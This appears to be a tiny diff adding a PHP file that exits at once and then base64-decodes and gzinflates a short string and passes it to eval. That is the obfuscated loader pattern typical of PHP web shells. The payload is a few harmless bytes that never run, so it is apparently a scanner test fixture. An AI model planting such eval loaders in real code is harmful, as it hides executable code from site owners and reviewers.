@@ -1,0 +1,3 @@
+<?php exit;
+$x = gzinflate(base64_decode('S0ktLgEA'));
+eval($x);
